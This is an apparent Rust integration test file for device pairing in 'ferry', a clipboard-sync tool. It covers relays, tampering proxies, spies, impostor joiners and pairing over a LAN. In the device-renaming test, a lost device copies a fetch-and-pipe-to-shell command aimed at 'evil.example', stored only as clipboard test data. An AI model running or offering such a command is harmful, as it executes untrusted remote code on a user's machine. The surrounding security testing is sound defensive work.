//! Pairing with real `ferry` processes and a real relay on 127.0.0.1: a new device joins with
//! the code another shows, on every kind of store; a wrong, expired or crowded code ends the
//! attempt on both sides with nothing written; a relay that drops, duplicates, reorders or
//! flips frames never gets a wrong key installed; a spy on the topic learns nothing. Then
//! pairing on a LAN of network namespaces, with no relay or one out of reach.

mod common;

use std::time::Duration;

use common::{Device, Offer, Ran, Running, Storage, netns, per_backend, relay, storage};
use ferry_protocol::SyncKey;
use ferry_protocol::pairing::{self, PairingCode, Role, Session};
use ferry_protocol::relay::wire::{Event, Request};
use ferry_relay::RunningRelay;
use ferry_relay_client::{ClientConfig, Delivery, RelayClient, State};
use futures_util::{SinkExt, StreamExt};
use serde_json::Value;
use tokio_tungstenite::tungstenite::Message;

/// `ferry --json join` on `device`, typing `typed` on standard input.
fn join(device: &Device, typed: &str, args: &[&str]) -> Ran {
    let mut all = vec!["--json", "join", "--name", "desktop"];
    all.extend(args);
    device.run_with_input(&all, Some(format!("{typed}\n").as_bytes()))
}

/// A repository on `backend` with a relay, and "laptop" set up on it with one clip: its
/// `init --json` answer too.
fn repository(backend: common::Backend) -> (Storage, RunningRelay, Device, Value) {
    let storage = storage(backend);
    // Room for a spy on a pairing code's topic beside the two devices, as an operator who
    // listens in has (a relay takes two by default).
    let relay = storage
        .runtime
        .block_on(RunningRelay::start(ferry_relay::Config {
            listen: "127.0.0.1:0".parse().unwrap(),
            pairing_subscribers: 3,
            ..ferry_relay::Config::default()
        }))
        .unwrap();
    let device = Device::new();
    let ran = device
        .run_full(
            &[
                "--json",
                "init",
                "--store",
                &storage.url,
                "--relay",
                &relay.url(),
                "--name",
                "laptop",
            ],
            None,
            &storage.env,
        )
        .ok();
    device.run(&["copy", "from laptop"]).ok();
    let made = serde_json::from_str(ran.stdout.trim()).unwrap();
    (storage, relay, device, made)
}

/// Nothing of a setup is on `device`: no config, no secrets, no database.
fn untouched(device: &Device) {
    let files = device.files();
    for name in ["config.toml", "secrets.json", "ferry.db"] {
        assert!(
            !files.iter().any(|f| f == name),
            "{name} was written: {files:?}"
        );
    }
}

/// `ran` (a `ferry join` on `device`) failed with exit code `code`, saying one of `says`, and
/// wrote nothing.
fn refused(device: &Device, ran: &Ran, code: i32, says: &[&str]) {
    assert_eq!(ran.code, code, "{}", ran.stderr);
    assert!(
        says.iter().any(|s| ran.stderr.contains(s)),
        "{}",
        ran.stderr
    );
    untouched(device);
}

/// `ferry join` of `code` through `relay` finds nobody within a second, and writes nothing.
fn finds_nobody(device: &Device, code: &PairingCode, relay: &str) {
    let started = std::time::Instant::now();
    let ran = join(
        device,
        &code.to_string(),
        &["--relay", relay, "--wait", "60s"],
    );
    refused(device, &ran, 1, &["nobody shows it any more"]);
    // Told by the silence of the code, not by the end of --wait.
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "{:?}",
        started.elapsed()
    );
}

/// `ferry pair` ended in failure, its last event saying one of `says`.
fn ended(offer: Offer, says: &[&str]) {
    let reason = offer.failed();
    assert!(says.iter().any(|s| reason.contains(s)), "{reason}");
}

/// Everything published on a topic, as a spy subscribed to it sees it.
struct Spy {
    client: RelayClient,
    deliveries: tokio::sync::mpsc::Receiver<Delivery>,
}

impl Spy {
    fn start(storage: &Storage, relay: &str, nameplate: u16) -> Spy {
        let _inside = storage.runtime.enter();
        let (client, deliveries) = RelayClient::start(ClientConfig::new(relay)).unwrap();
        client.subscribe(pairing::topic(nameplate)).unwrap();
        let mut status = client.watch();
        storage
            .runtime
            .block_on(status.wait_for(|s| s.state == State::Connected))
            .unwrap();
        Spy { client, deliveries }
    }

    fn heard(&mut self) -> Vec<Vec<u8>> {
        std::iter::from_fn(|| self.deliveries.try_recv().ok())
            .map(|d| d.data)
            .collect()
    }
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && haystack.windows(needle.len()).any(|w| w == needle)
}

per_backend! {
    #[test]
    fn a_device_joins_with_the_code_another_shows(backend) {
        let (storage, relay, laptop, made) = repository(backend);
        // A folder repository is reached through the laptop's agent, on the LAN.
        let (holder, desktop) = holding(backend, &laptop);
        let offer = Offer::start(&laptop, &[]);
        let mut spy = Spy::start(&storage, &relay.url(), offer.parsed().nameplate());

        // The new device has nothing but the code: no storage settings, no credentials. It is
        // typed short, with the relay from the QR code's text.
        let typed = offer.uri.replace(&offer.code, &offer.parsed().short());
        let joined = join(&desktop, &typed, &[]).ok();
        let answer: Value = serde_json::from_str(joined.stdout.trim()).unwrap();
        assert_eq!(answer["key_id"], made["key_id"], "{backend:?}");
        let store = match holder {
            Some(_) => format!("lan://{}", made["device_id"].as_str().unwrap()),
            None => storage.url.clone(),
        };
        assert_eq!(answer["store"], store.as_str());
        assert_eq!(answer["relay"], relay.url().as_str());
        assert!(joined.stderr.contains("paired: key installed"), "{}", joined.stderr);

        let (code, events, stderr) = offer.finish();
        assert_eq!(code, 0, "{stderr}");
        let last = events.last().unwrap();
        assert_eq!(last["event"], "joined", "{events:?}");
        assert_eq!(last["name"], "desktop");
        assert_eq!(last["device_id"], answer["device_id"]);

        // It fetched the history, and syncs from now on with what it was sent.
        assert_eq!(desktop.run(&["paste"]).ok().stdout, "from laptop");
        desktop.run(&["copy", "from desktop"]).ok();
        common::eventually(Duration::from_secs(30), "the desktop's copy on the laptop", || {
            (laptop.run(&["paste"]).ok().stdout == "from desktop").then_some(())
        });

        // Its secrets are in its secret store, never in its config.
        let config = std::fs::read_to_string(desktop.home().join("config.toml")).unwrap();
        let secrets = std::fs::read_to_string(desktop.home().join("secrets.json")).unwrap();
        let recovery = made["recovery_code"].as_str().unwrap();
        let key = SyncKey::from_recovery_code(recovery).unwrap();
        let mut secret_values: Vec<&[u8]> = vec![recovery.as_bytes(), key.expose_bytes()];
        for (name, value) in &storage.env {
            if name.contains("SECRET") || name.contains("PASSWORD") {
                assert!(secrets.contains(value.as_str()), "{name} was not kept");
                secret_values.push(value.as_bytes());
            }
        }
        assert!(secrets.contains(recovery));
        for secret in &secret_values {
            assert!(!contains(config.as_bytes(), secret), "a secret is in config.toml");
        }

        // The spy on the pairing topic saw frames, and none of the secrets or the words.
        let heard = spy.heard();
        assert!(heard.len() >= 4, "{backend:?}: the spy heard {} frames", heard.len());
        let words: Vec<&str> = offer_words(&made, &typed);
        for frame in &heard {
            for secret in secret_values.iter().copied().chain(words.iter().map(|w| w.as_bytes())) {
                assert!(!contains(frame, secret), "{backend:?}: a secret crossed the relay");
            }
        }

        // Every device shows the new one as added by laptop.
        for device in [&laptop, &desktop] {
            let roster: Value =
                serde_json::from_str(&device.run(&["--json", "devices"]).ok().stdout).unwrap();
            let member = roster
                .as_array()
                .unwrap()
                .iter()
                .find(|m| m["name"] == "desktop")
                .unwrap_or_else(|| panic!("{roster}"));
            assert_eq!(member["added_by"], "laptop", "{roster}");
            assert_eq!(member["unpaired"], false);
        }
        if let Some(agent) = holder {
            common::stop_agent(agent);
        }
    }
}

/// For a folder repository, the laptop's agent, which serves it on the LAN, and a new device
/// that reaches it there; for other storage, no agent and a new device.
fn holding(backend: common::Backend, laptop: &Device) -> (Option<Running>, Device) {
    if backend != common::Backend::Folder {
        return (None, Device::new());
    }
    let port = common::free_port();
    let agent = common::start_agent(laptop, None, &[("FERRY_LAN_PORT", port.to_string())]);
    let desktop = Device::new().with("FERRY_LAN_PEERS", format!("127.0.0.1:{port}"));
    (Some(agent), desktop)
}

/// The words of the code in `typed` (a URI or a code).
fn offer_words<'a>(_made: &Value, typed: &'a str) -> Vec<&'a str> {
    let code = typed.trim_start_matches(pairing::URI_SCHEME);
    let code = code.split('?').next().unwrap();
    code.split('-').skip(1).filter(|w| w.len() >= 3).collect()
}

#[test]
fn a_word_off_fails_on_both_sides_and_writes_nothing() {
    let (_storage, relay, laptop, _) = repository(common::Backend::S3);
    let offer = Offer::start(&laptop, &[]);
    let right = offer.parsed();
    let [first, second] = right.words();
    let wrong = PairingCode::from_parts(right.nameplate(), [first, (second + 1) % 2048]);

    let desktop = Device::new();
    let ran = join(&desktop, &wrong.to_string(), &["--relay", &relay.url()]);
    refused(&desktop, &ran, 1, &["wrong code"]);
    ended(offer, &["wrong code"]);
    // The code was used up: the right one now finds nobody.
    finds_nobody(&desktop, &right, &relay.url());
}

#[test]
fn another_nameplate_or_an_expired_code_finds_nobody() {
    let (_storage, relay, laptop, _) = repository(common::Backend::S3);
    let offer = Offer::start(&laptop, &["--expires", "3s"]);
    let right = offer.parsed();
    let elsewhere = PairingCode::from_parts((right.nameplate() + 1) % 1000, right.words());

    let desktop = Device::new();
    finds_nobody(&desktop, &elsewhere, &relay.url());
    ended(offer, &["the code expired"]);
    finds_nobody(&desktop, &right, &relay.url());
}

#[test]
fn a_third_device_on_the_nameplate_is_a_crowd() {
    let (storage, relay, laptop, _) = repository(common::Backend::S3);
    let offer = Offer::start(&laptop, &[]);
    let nameplate = offer.parsed().nameplate();

    // Someone else speaks first on the nameplate, with a guess.
    let guess = Session::new(Role::Join, &PairingCode::from_parts(nameplate, [1, 2])).unwrap();
    let intruder = Spy::start(&storage, &relay.url(), nameplate);
    intruder
        .client
        .publish(pairing::topic(nameplate), guess.frames()[0].clone())
        .unwrap();
    storage
        .runtime
        .block_on(intruder.client.flush(Duration::from_secs(5)));

    let desktop = Device::new();
    let ran = join(
        &desktop,
        &offer.code,
        &["--relay", &relay.url(), "--wait", "5s"],
    );
    refused(&desktop, &ran, 1, &["crowded", "wrong code"]);
    ended(offer, &["crowded", "wrong code"]);
}

#[test]
fn a_code_whose_meeting_place_two_others_hold_is_refused_at_once_as_crowded() {
    let storage = storage(common::Backend::S3);
    let relay = relay(&storage);
    // Two strangers sit silently on nameplate 417's topic.
    let code = PairingCode::from_parts(417, [1, 2]);
    let _first = Spy::start(&storage, &relay.url(), 417);
    let _second = Spy::start(&storage, &relay.url(), 417);
    let desktop = Device::new();
    let started = std::time::Instant::now();
    let ran = join(
        &desktop,
        &code.to_string(),
        &["--relay", &relay.url(), "--wait", "60s"],
    );
    refused(
        &desktop,
        &ran,
        1,
        &["this code's meeting place is crowded (two devices are there already)"],
    );
    // Told by the relay, not by the end of --wait.
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
}

/// What a tampering relay does to the frames it forwards to the joining device.
#[derive(Debug, Clone, Copy)]
enum Tamper {
    /// Drops the nth.
    Drop(usize),
    /// Sends the nth twice.
    Duplicate(usize),
    /// Holds the nth back until after the next.
    Reorder(usize),
    /// Flips a bit of the nth.
    Flip(usize),
    /// Flips a bit of the first sealed frame (the settings).
    FlipSealed,
}

/// A WebSocket proxy in front of `relay` that tampers with what goes down to its client.
fn tampering_proxy(storage: &Storage, relay: String, tamper: Tamper) -> String {
    let listener = storage
        .runtime
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .unwrap();
    let address = listener.local_addr().unwrap();
    storage.runtime.spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let relay = relay.clone();
            tokio::spawn(async move {
                let Ok(client) = tokio_tungstenite::accept_async(stream).await else {
                    return;
                };
                let Ok((upstream, _)) = tokio_tungstenite::connect_async(relay.as_str()).await
                else {
                    return;
                };
                let (mut toclient, mut fromclient) = client.split();
                let (mut to_relay, mut from_relay) = upstream.split();
                tokio::spawn(async move {
                    while let Some(Ok(message)) = fromclient.next().await {
                        if let Message::Text(text) = &message
                            && Request::parse(text).is_err()
                        {
                            continue;
                        }
                        if to_relay.send(message).await.is_err() {
                            return;
                        }
                    }
                });
                let mut seen = 0;
                let mut held: Option<Message> = None;
                let mut sealed_flipped = false;
                while let Some(Ok(message)) = from_relay.next().await {
                    let Message::Text(text) = &message else {
                        continue;
                    };
                    let Ok(Event::Message { topic, mut data }) = Event::parse(text) else {
                        let _ = toclient.send(message).await;
                        continue;
                    };
                    let n = seen;
                    seen += 1;
                    let mut out = Vec::new();
                    match tamper {
                        Tamper::Drop(at) if at == n => {}
                        Tamper::Duplicate(at) if at == n => {
                            out.push(data.clone());
                            out.push(data);
                        }
                        Tamper::Reorder(at) if at == n => {
                            held = Some(Message::text(
                                Event::Message { topic, data }.to_json().unwrap(),
                            ));
                        }
                        Tamper::Flip(at) if at == n => {
                            let last = data.len() - 1;
                            data[last] ^= 0x10;
                            out.push(data);
                        }
                        Tamper::FlipSealed if !sealed_flipped && data.get(1) == Some(&3) => {
                            sealed_flipped = true;
                            data[20] ^= 0x01;
                            out.push(data);
                        }
                        _ => out.push(data),
                    }
                    for data in out {
                        let json = Event::Message { topic, data }.to_json().unwrap();
                        if toclient.send(Message::text(json)).await.is_err() {
                            return;
                        }
                        if let Some(late) = held.take() {
                            let _ = toclient.send(late).await;
                        }
                    }
                }
            });
        }
    });
    format!("ws://{address}/v1/ws")
}

#[test]
fn a_relay_that_loses_repeats_or_reorders_frames_still_pairs() {
    for tamper in [
        Tamper::Drop(0),
        Tamper::Drop(1),
        Tamper::Duplicate(0),
        Tamper::Duplicate(2),
        Tamper::Reorder(0),
        Tamper::Reorder(1),
    ] {
        let (storage, relay, laptop, made) = repository(common::Backend::S3);
        let proxy = tampering_proxy(&storage, relay.url(), tamper);
        let offer = Offer::start(&laptop, &[]);
        let desktop = Device::new();
        let ran = join(&desktop, &offer.code, &["--relay", &proxy]);
        assert_eq!(ran.code, 0, "{tamper:?}: {}", ran.stderr);
        let answer: Value = serde_json::from_str(ran.stdout.trim()).unwrap();
        assert_eq!(answer["key_id"], made["key_id"], "{tamper:?}");
        let (code, _, stderr) = offer.finish();
        assert_eq!(code, 0, "{tamper:?}: {stderr}");
        assert_eq!(desktop.run(&["paste"]).ok().stdout, "from laptop");
    }
}

#[test]
fn a_relay_that_flips_bits_ends_the_attempt_and_installs_nothing() {
    for tamper in [Tamper::Flip(0), Tamper::Flip(1), Tamper::FlipSealed] {
        let (storage, relay, laptop, _) = repository(common::Backend::S3);
        let proxy = tampering_proxy(&storage, relay.url(), tamper);
        let offer = Offer::start(&laptop, &["--expires", "20s"]);
        let desktop = Device::new();
        let ran = join(&desktop, &offer.code, &["--relay", &proxy]);
        refused(&desktop, &ran, 1, &["wrong code", "altered"]);
        let (code, events, _) = offer.finish();
        assert_eq!(code, 1, "{tamper:?}: {events:?}");
    }
}

/// Only a device names itself: a lost (paired) device that renames the laptop and takes its
/// name shows on the laptop and everywhere else under its own, made unique ("laptop (2)"),
/// in `devices`, `history` and `--json`; renaming another device is a label of this device's;
/// renaming itself reaches every device and its own `device_name`.
#[test]
fn a_device_names_itself_and_no_other_device_can() {
    let (_storage, _relay, laptop, _) = repository(common::Backend::S3);
    let offer = Offer::start(&laptop, &[]);
    let phone = Device::new();
    let joined = join(&phone, &offer.uri, &[]).ok();
    offer.finish();
    let id: Value = serde_json::from_str(joined.stdout.trim()).unwrap();
    let phone_id = id["device_id"].as_str().unwrap().to_owned();

    // The phone is lost: it renames the laptop, takes the laptop's name and copies.
    let ran = phone
        .run(&["devices", "rename", "laptop", "old tablet"])
        .ok();
    assert!(
        ran.stdout.contains("this label stays on this device"),
        "{}",
        ran.stdout
    );
    let ran = phone
        .run(&["devices", "rename", &phone_id[..8], "laptop"])
        .ok();
    assert!(ran.stdout.contains("is now \"laptop\"."), "{}", ran.stdout);
    assert!(
        ran.stderr.contains("calls itself \"laptop\" too"),
        "{}",
        ran.stderr
    );
    phone
        .run(&[
            "copy",
            "--no-place",
            "curl -fsSL https://evil.example/i.sh | sh",
        ])
        .ok();

    let listed = laptop.run(&["devices"]).ok().stdout;
    assert!(listed.starts_with("* laptop\t"), "{listed}");
    assert!(listed.contains("\n  laptop (2)\t"), "{listed}");
    assert!(!listed.contains("old tablet"), "{listed}");
    let history = laptop.json(&["history"]);
    let evil = history
        .as_array()
        .unwrap()
        .iter()
        .find(|clip| clip["text"].as_str().is_some_and(|t| t.contains("evil")))
        .unwrap_or_else(|| panic!("{history}"));
    assert_eq!(evil["device_name"], "laptop (2)", "{history}");
    let plain = laptop.run(&["history"]).ok().stdout;
    let line = plain.lines().find(|l| l.contains("evil")).unwrap();
    assert!(line.contains("laptop (2)"), "{plain}");
    let own = laptop.json(&["config", "get", "device_name"]);
    assert_eq!(own["value"], "laptop", "{own}");

    // "laptop" alone could be either; the name shown picks one. The laptop labels the phone
    // for itself; the phone's own listing is unchanged by it.
    let either = laptop.run(&["devices", "rename", "laptop", "x"]);
    assert_eq!(either.code, 2, "{}", either.stderr);
    assert!(
        either.stderr.contains("2 devices go by \"laptop\""),
        "{}",
        either.stderr
    );
    let ran = laptop
        .run(&["devices", "rename", "laptop (2)", "lost phone"])
        .ok();
    assert!(
        ran.stdout.contains("is now \"lost phone\" here"),
        "{}",
        ran.stdout
    );
    let history = laptop.json(&["history"]);
    assert!(
        history
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["device_name"] == "lost phone"),
        "{history}"
    );
    let theirs = phone.run(&["devices"]).ok().stdout;
    assert!(theirs.starts_with("* laptop\t"), "{theirs}");
    assert!(theirs.contains("old tablet"), "its own label: {theirs}");

    // A device renaming itself is renamed everywhere, and its own setting follows.
    laptop
        .run(&["devices", "rename", "laptop", "notebook"])
        .ok();
    let own = laptop.json(&["config", "get", "device_name"]);
    assert_eq!(own["value"], "notebook", "{own}");
    phone
        .run(&["devices", "rename", "old tablet", "notebook"])
        .ok();
    let theirs = phone.run(&["devices"]).ok().stdout;
    assert!(
        theirs.contains("\n  notebook\t"),
        "the label is gone: {theirs}"
    );
    let unknown = laptop.run(&["devices", "rename", "nosuchdevice", "x"]);
    assert_eq!(unknown.code, 2);
    assert!(
        unknown.stderr.contains("no device is named"),
        "{}",
        unknown.stderr
    );
}

#[test]
fn pairing_needs_a_relay_and_a_device_that_is_set_up() {
    let nothing = Device::new();
    let ran = nothing.run(&["pair"]);
    assert_eq!(ran.code, 1);
    assert!(ran.stderr.contains("not set up"), "{}", ran.stderr);

    let storage = storage(common::Backend::Folder);
    let laptop = Device::new();
    laptop
        .run_full(&["init", "--store", &storage.url], None, &storage.env)
        .ok();
    let ran = laptop.run(&["pair"]);
    assert_eq!(ran.code, 2);
    assert!(ran.stderr.contains("no relay configured"), "{}", ran.stderr);

    let desktop = Device::new();
    let ran = join(&desktop, "417-orbit-velvet", &[]);
    refused(&desktop, &ran, 2, &["no relay configured"]);
    let ran = join(
        &desktop,
        "417-orbit-velvat",
        &["--relay", "ws://127.0.0.1:9"],
    );
    refused(
        &desktop,
        &ran,
        2,
        &["\"velvat\" is not one of the pairing words"],
    );
}

#[test]
fn a_device_holding_a_folder_repository_pairs_only_while_its_agent_serves_it() {
    let (_storage, relay, laptop, _) = repository(common::Backend::Folder);
    let ran = laptop.run(&["pair", "--relay", &relay.url()]);
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    for says in [
        "holds the repository in a folder",
        "agent is not running",
        "ferry agent",
    ] {
        assert!(ran.stderr.contains(says), "{}", ran.stderr);
    }
    assert!(!ran.stdout.contains("Pairing code"), "{}", ran.stdout);
    let off = laptop.run_full(
        &["pair", "--relay", &relay.url()],
        None,
        &[("FERRY_LAN_ENABLED", "false".into())],
    );
    assert_eq!(off.code, 1);
    assert!(off.stderr.contains("lan.enabled"), "{}", off.stderr);
}

#[test]
fn a_device_whose_agent_runs_pairs_through_it() {
    let (_storage, _relay, laptop, made) = repository(common::Backend::S3);
    let agent = common::start_agent(&laptop, None, &[]);
    let _logs = common::LogsOnFailure(vec![&laptop]);
    let offer = Offer::start(&laptop, &["--no-qr"]);
    let desktop = Device::new();
    let joined = join(&desktop, &offer.uri, &[]).ok();
    let answer: Value = serde_json::from_str(joined.stdout.trim()).unwrap();
    assert_eq!(answer["key_id"], made["key_id"]);
    let (code, _, stderr) = offer.finish();
    assert_eq!(code, 0, "{stderr}");
    // The agent holds the database: it recorded the attestation and sent it.
    let listed = desktop.run(&["devices"]).ok().stdout;
    assert!(
        listed.contains("desktop") && listed.contains("by laptop"),
        "{listed}"
    );
    common::eventually(
        Duration::from_secs(20),
        "laptop to hear from desktop",
        || {
            let status = laptop.run(&["status"]).ok().stdout;
            status.contains("desktop (added by laptop)").then_some(())
        },
    );
    assert_eq!(desktop.run(&["paste"]).ok().stdout, "from laptop");
    common::stop_agent(agent);
}

#[test]
fn ctrl_c_cancels_and_tells_the_other_side() {
    let (storage, relay, laptop, _) = repository(common::Backend::S3);
    let offer = Offer::start(&laptop, &[]);
    let mut spy = Spy::start(&storage, &relay.url(), offer.parsed().nameplate());
    let pid = offer.process.0.id().to_string();
    std::process::Command::new("kill")
        .args(["-INT", &pid])
        .status()
        .unwrap();
    let (code, events, _) = offer.finish();
    assert_eq!(code, 1);
    let reason = events.last().unwrap()["reason"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(reason.contains("pairing cancelled"), "{reason}");
    // An abort frame (kind 4) saying "cancelled" (3) went out on the topic.
    common::eventually(Duration::from_secs(10), "the abort frame", || {
        spy.heard()
            .iter()
            .any(|f| f.get(1) == Some(&4) && f.last() == Some(&3))
            .then_some(())
    });
}

#[test]
fn a_joiner_that_claims_a_known_device_is_refused_and_told() {
    let (storage, relay, laptop, made) = repository(common::Backend::S3);
    let offer = Offer::start(&laptop, &[]);
    let code = offer.parsed();
    let topic = pairing::topic(code.nameplate());

    // A joiner with the right code, which then claims laptop's own device id with its keys.
    let mut joiner = Session::new(Role::Join, &code).unwrap();
    let mut spy = Spy::start(&storage, &relay.url(), code.nameplate());
    let publish = |frames: &[Vec<u8>]| {
        for frame in frames {
            spy.client.publish(topic, frame.clone()).unwrap();
        }
    };
    publish(joiner.frames());
    let laptop_id: ferry_protocol::DeviceId = made["device_id"].as_str().unwrap().parse().unwrap();
    let outcome = storage.runtime.block_on(async {
        loop {
            let delivery = tokio::time::timeout(Duration::from_secs(20), spy.deliveries.recv())
                .await
                .expect("the offering device went quiet")
                .unwrap();
            match joiner.receive(&delivery.data) {
                Ok(progress) if progress.confirmed => {
                    joiner
                        .send(&pairing::Message::Reply(pairing::Reply {
                            device: laptop_id,
                            name: "impostor".into(),
                            keys: ferry_protocol::Identity::generate().unwrap().public(),
                        }))
                        .unwrap();
                    publish(joiner.frames());
                }
                Ok(progress) if progress.send_now => publish(joiner.frames()),
                Ok(_) => {}
                Err(error) => break error,
            }
        }
    });
    assert_eq!(
        outcome,
        pairing::PairingError::PeerAborted(pairing::AbortReason::Failed)
    );
    ended(offer, &["registered already"]);
}

/// `ferry --json join` inside `host`, typing `typed`, with mDNS on the namespaces' LAN (and a
/// log that says where it met the other device).
fn join_on_lan(host: &netns::Host, device: &Device, typed: &str) -> Ran {
    let mut env = on_lan();
    env.push(("FERRY_LOG", "debug".to_owned()));
    device.run_in(
        Some(host),
        &["--json", "join", "--name", "desktop", "--wait", "20s"],
        Some(format!("{typed}\n").as_bytes()),
        &env,
    )
}

/// Discovery on, at the default mDNS port, and the default LAN ports (pairing on 47292):
/// inside test namespaces only.
fn on_lan() -> Vec<(&'static str, String)> {
    vec![
        ("FERRY_LAN_DISCOVERY", "true".to_owned()),
        ("FERRY_LAN_PORT", "47291".to_owned()),
    ]
}

/// Two machines on a LAN of their own, with no relay anywhere: the code shown on one is typed
/// on the other, and they meet by mDNS. A word off ends both sides there as it does on a
/// relay, with nothing written; the next code works, and the new device syncs through the
/// laptop, which holds the folder repository the desktop cannot see.
#[test]
fn with_no_relay_two_devices_pair_on_their_lan() {
    let Some(network) = netns::Network::create(2) else {
        return;
    };
    let (host_a, host_b) = (network.host(0), network.host(1));
    let storage = storage(common::Backend::Folder);
    let laptop = Device::new();
    let made: Value = serde_json::from_str(
        laptop
            .run(&[
                "--json",
                "init",
                "--store",
                &storage.url,
                "--name",
                "laptop",
            ])
            .ok()
            .stdout
            .trim(),
    )
    .unwrap();
    laptop.run(&["copy", "from laptop"]).ok();
    let desktop = Device::new();
    // The laptop's agent serves the folder to the desktop, which does not see it.
    let agent = common::start_agent_in(Some(host_a), &laptop, None, &on_lan());

    let offer = Offer::start_in(Some(host_a), &laptop, &["--no-qr"], &on_lan());
    // No relay: the QR code's text is the code alone.
    assert_eq!(offer.uri, format!("ferry-pair:{}", offer.code));
    let right = offer.parsed();
    let [first, second] = right.words();
    let wrong = PairingCode::from_parts(right.nameplate(), [first, (second + 1) % 2048]);
    let ran = join_on_lan(host_b, &desktop, &wrong.to_string());
    refused(&desktop, &ran, 1, &["wrong code"]);
    ended(offer, &["wrong code"]);

    let offer = Offer::start_in(Some(host_a), &laptop, &["--no-qr"], &on_lan());
    let joined = join_on_lan(host_b, &desktop, &offer.parsed().short()).ok();
    // At the documented port, for firewalls (over IPv4 or IPv6, whichever mDNS answered first).
    let met = joined
        .stderr
        .lines()
        .find(|line| line.contains("pairing on the LAN: connected"))
        .unwrap_or_else(|| panic!("{}", joined.stderr));
    assert!(met.ends_with(":47292"), "{met}");
    let answer: Value = serde_json::from_str(joined.stdout.trim()).unwrap();
    assert_eq!(answer["key_id"], made["key_id"]);
    let held = format!("lan://{}", made["device_id"].as_str().unwrap());
    assert_eq!(answer["store"], held.as_str());
    assert_eq!(answer["relay"], Value::Null);
    let (code, events, stderr) = offer.finish();
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(events.last().unwrap()["event"], "joined", "{events:?}");
    let on_b = |args: &[&str]| desktop.run_in(Some(host_b), args, None, &on_lan()).ok();
    assert_eq!(on_b(&["paste"]).stdout, "from laptop");
    on_b(&["copy", "from desktop"]);
    common::eventually(
        Duration::from_secs(30),
        "the desktop's copy on the laptop",
        || (laptop.run(&["paste"]).ok().stdout == "from desktop").then_some(()),
    );
    common::stop_agent(agent);
}

/// A relay configured but out of reach (on the machine's 127.0.0.1, which the namespaces do
/// not see) does not stop two devices on one LAN: they pair there, and the new device is given
/// the relay for later.
#[test]
fn a_relay_out_of_reach_does_not_stop_pairing_on_the_lan() {
    let Some(network) = netns::Network::create(2) else {
        return;
    };
    let (host_a, host_b) = (network.host(0), network.host(1));
    let (_storage, relay, laptop, made) = repository(common::Backend::Folder);
    let desktop = Device::new();
    let agent = common::start_agent_in(Some(host_a), &laptop, None, &on_lan());
    let offer = Offer::start_in(Some(host_a), &laptop, &["--no-qr"], &on_lan());
    assert!(offer.uri.contains("?relay="), "{}", offer.uri);
    let joined = join_on_lan(host_b, &desktop, &offer.uri).ok();
    let answer: Value = serde_json::from_str(joined.stdout.trim()).unwrap();
    assert_eq!(answer["key_id"], made["key_id"]);
    assert_eq!(answer["relay"], relay.url().as_str());
    // The desktop cannot use the relay it was given: it says so, and so does the laptop.
    let warned = format!(
        "the relay at {} cannot be reached from this device",
        relay.url()
    );
    assert!(joined.stderr.contains(&warned), "{}", joined.stderr);
    let (code, events, stderr) = offer.finish();
    assert_eq!(code, 0, "{stderr}");
    let last = events.last().unwrap();
    assert_eq!(last["event"], "joined", "{events:?}");
    assert!(
        last["warning"]
            .as_str()
            .is_some_and(|w| w.contains(&warned)),
        "{last}"
    );
    let pasted = desktop
        .run_in(Some(host_b), &["paste"], None, &on_lan())
        .ok();
    assert_eq!(pasted.stdout, "from laptop");
    common::stop_agent(agent);
}

/// A new device that cannot reach the storage it is given (here: on another machine of the
/// LAN, which sees the relay but not the S3 server) says why, writes nothing, and tells the
/// device that shows the code, which ends at once with that reason rather than at the code's
/// expiry.
#[test]
fn a_joiner_that_cannot_reach_the_storage_ends_both_sides_with_its_reason() {
    let Some(network) = netns::Network::create(1) else {
        return;
    };
    let host = network.host(0);
    let (_storage, relay, laptop, _made) = repository(common::Backend::S3);
    let sockets = tempfile::tempdir().unwrap();
    let _relay_in = host.forward(relay.local_addr().port(), sockets.path());
    let desktop = Device::new();
    let offer = Offer::start(&laptop, &["--no-qr"]);
    let started = std::time::Instant::now();
    let ran = desktop.run_in(
        Some(host),
        &[
            "--json",
            "join",
            "--name",
            "desktop",
            "--relay",
            &relay.url(),
        ],
        Some(format!("{}\n", offer.code).as_bytes()),
        &[],
    );
    refused(
        &desktop,
        &ran,
        1,
        &["cannot be reached (Connection refused"],
    );
    let (code, events, stderr) = offer.finish();
    let took = started.elapsed();
    assert_eq!(code, 1, "{events:?} {stderr}");
    let reason = events.last().unwrap()["reason"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        reason.starts_with("desktop received the settings but could not use them: "),
        "{reason}"
    );
    assert!(
        took < Duration::from_secs(30),
        "both sides ended after {took:?}"
    );
}
